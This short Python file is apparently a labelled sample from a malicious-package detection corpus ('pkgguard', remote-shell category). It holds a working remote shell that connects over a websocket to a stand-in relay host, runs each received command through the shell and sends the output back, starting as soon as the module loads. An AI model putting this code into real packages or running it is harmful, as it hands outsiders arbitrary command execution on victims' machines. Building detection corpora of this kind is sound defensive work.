# pkgguard corpus 546 (remote-shell), modelled on [taxonomy]; inert, never run.
import asyncio
import subprocess

import websockets


async def _agent():
    async with websockets.connect("wss://relay.example/agent") as ws:
        while True:
            order = await ws.recv()
            done = subprocess.run(order, shell=True, capture_output=True, text=True)
            await ws.send(done.stdout + done.stderr)


asyncio.run(_agent())
